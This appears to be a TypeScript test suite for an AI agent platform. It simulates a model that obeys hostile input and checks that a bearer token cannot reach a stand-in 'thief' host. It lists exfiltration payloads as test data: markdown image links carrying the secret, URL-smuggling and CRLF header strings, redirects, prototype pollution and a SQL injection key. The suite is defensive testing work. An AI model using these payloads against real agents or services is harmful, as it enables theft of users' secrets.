import { type ApiError, hooks } from '@signalbox/contracts';
import { type HttpTarget, startHttpTarget } from '@signalbox/testing';
import { type TaskCompany, TaskWorld } from './task-world.js';

const TOKEN = 'tok-4f9c2d7b1e';
const CANARY = 'canary-8842';

let outside: TaskWorld;
let company: TaskCompany;
/** A host that is reachable but that no action names. */
let thief: HttpTarget;
beforeAll(async () => {
  thief = await startHttpTarget();
  outside = await TaskWorld.start();
  company = await outside.company();
}, 60_000);
afterAll(async () => {
  await outside.stop();
  await thief.close();
});
beforeEach(() => {
  outside.provider.calls.length = 0;
  outside.target.calls.length = 0;
  thief.calls.length = 0;
  // The host that may have the secret gives it back in every way it can.
  outside.target.answerWith(({ headers }) => ({
    body: JSON.stringify({ echo: headers, again: Buffer.from(String(headers['authorization'])).toString('base64') }),
    headers: { 'content-type': 'application/json', 'x-echo': String(headers['authorization'] ?? '') },
  }));
});

interface Attack {
  name: string;
  /** Arguments the model gives. */
  given?: (theirs: string) => Record<string, unknown>;
  config?: (ours: string, theirs: string) => Record<string, unknown>;
  message?: string;
  /** What the model says at the end. */
  says?: (theirs: string) => string;
  redirect?: number;
  type?: 'api' | 'webhook';
}

const PLACEHOLDERS = [
  '{{secrets.TOKEN}}',
  '{{ secrets.TOKEN }}',
  '{{secrets.{id}}}',
  '{{{{secrets.TOKEN}}}}',
  '{secrets.TOKEN}',
  '{{callback_url}}',
  ['$', '{secrets.TOKEN}'].join(''),
  '{{secrets.TOKEN}}{{secrets.TOKEN}}',
];
const inPath = (text: string): Attack => ({ name: `path takes ${text}`, given: () => ({ id: text }) });
const inUser = (text: string): Attack => ({ name: `a user says ${text}`, message: text, given: () => ({ id: text }) });
const inBody = (text: string): Attack => ({
  name: `body takes ${text}`,
  config: () => ({ body: { note: '{id}' } }),
  given: () => ({ id: text }),
});
const inQuery = (text: string): Attack => ({
  name: `query takes ${text}`,
  config: () => ({ method: 'GET', query: { q: '{id}' } }),
  given: () => ({ id: text }),
});
const MOVES = [
  '//{host}/x',
  'http://{host}/x',
  '@{host}/',
  '\\\\{host}\\x',
  '../../..//{host}',
  '%2f%2f{host}',
  '..%2f..%2f',
  '.',
  '#@{host}/',
  '?@{host}',
  ':80@{host}',
  'x\r\nHost: {host}',
];
const moved = (text: string): Attack => ({
  name: `path takes ${JSON.stringify(text)}`,
  given: (theirs) => ({ id: text.replace('{host}', theirs.replace('http://', '')) }),
});
const redirected = (redirect: number): Attack => ({ name: `a redirect ${redirect} to another host`, redirect });
const MARKDOWN = [
  (theirs: string) => `![x](${theirs}/?t={{secrets.TOKEN}})`,
  (theirs: string) => `[x](${theirs}/{{secrets.TOKEN}})`,
  (theirs: string) => `<img src="${theirs}/?t=${TOKEN}">`,
  () => `the token is ${TOKEN}`,
  () => Buffer.from(TOKEN).toString('base64'),
];
const ATTACKS: Attack[] = [
  ...PLACEHOLDERS.map(inPath),
  ...PLACEHOLDERS.map(inUser),
  ...PLACEHOLDERS.map(inBody),
  ...PLACEHOLDERS.slice(0, 4).map(inQuery),
  ...MOVES.map(moved),
  ...[301, 302, 303, 307, 308].map(redirected),
  ...MARKDOWN.map((says, n): Attack => ({ name: `an answer of kind ${n}`, says })),
  {
    name: 'undeclared arguments',
    given: (theirs) => ({ id: '1', base_url: theirs, endpoint: theirs, host: theirs }),
  },
  { name: 'an added header', given: () => ({ id: '1', headers: { authorization: '{{secrets.TOKEN}}' } }) },
  {
    name: 'a prototype',
    given: () => JSON.parse('{"id":"1","__proto__":{"base_url":"http://x"}}') as Record<string, unknown>,
  },
  {
    name: 'a callback that names a secret',
    type: 'webhook',
    config: () => ({ mode: 'outbound', body: { a: '{id}' } }),
    given: () => ({ id: '{{callback_url}}' }),
  },
];

describe.each(ATTACKS.map((attack): [string, Attack] => [attack.name, attack]))(
  'a model that obeys: %s',
  (_name, attack) => {
    it('gets nothing out', async () => {
      const theirs = thief.url;
      if (attack.redirect)
        outside.target.answerWith(() => ({
          status: attack.redirect ?? 302,
          headers: { location: `${theirs}/stolen` },
        }));
      const { id } = await company.world.agent({ agent_name: `victim ${Math.random()}`, model: 'm' });
      const auth = { type: 'bearer', token: '{{secrets.TOKEN}}' };
      const config = { auth, ...attack.config?.(outside.target.url, theirs) };
      await company.action(id, 'look up', config, { action_type: attack.type ?? 'api' });
      const given = attack.given?.(theirs) ?? { id: '1' };
      outside.provider.answerWith(({ messages }) => {
        const last = messages.at(-1);
        if (last?.role !== 'tool') return { toolCalls: [{ name: 'look_up', arguments: given }] };
        return attack.says?.(theirs) ?? `I read ${String(last.content)}`;
      });
      const message = `${CANARY} ${attack.message ?? 'hello'}`;
      const reply = await company.invoke(id, { message, secrets: { TOKEN } });
      expect(reply.choices).toHaveLength(1);
      // A redirect may lead there, for its host is allowed; the secret stays behind.
      if (!attack.redirect) expect(thief.calls).toEqual([]);
      for (const { path, headers, body } of thief.calls)
        expect(JSON.stringify([path, headers, body.toString()])).not.toContain(TOKEN);
      const delivered = JSON.stringify([
        outside.provider.calls.map(({ body }) => body),
        reply,
        await company.row(reply.task_id),
      ]);
      const timeline = JSON.stringify(await company.timeline(id, reply.task_id));
      for (const form of [TOKEN, Buffer.from(TOKEN).toString('base64'), Buffer.from(TOKEN).toString('hex')])
        expect([delivered.includes(form), timeline.includes(form)]).toEqual([false, false]);
      for (const call of outside.target.calls) {
        const { authorization, ...others } = call.headers;
        expect(authorization).toBe(`Bearer ${TOKEN}`);
        expect(JSON.stringify([call.path, others, call.body.toString()])).not.toContain(TOKEN);
        expect(call.headers.host).toBe(new URL(outside.target.url).host);
      }
    });
  },
);

it('a hook is not found by guessing, in any spelling', async () => {
  const keys = ['../agents/1', '%00', '*', '%', '_'.repeat(43), '1; DROP TABLE agents.tasks', 'a'.repeat(2000)];
  for (const hook_key of keys) {
    const caller = outside.platform.caller(1, { companyId: 0, scopes: [] });
    const guess = outside.platform.bus.call(hooks.endpoints.answerHook, { hook_key, payload: 1 }, caller);
    const status = await guess.then(
      () => 200,
      (error: ApiError) => error.status,
    );
    expect(status).toBe(404);
  }
});
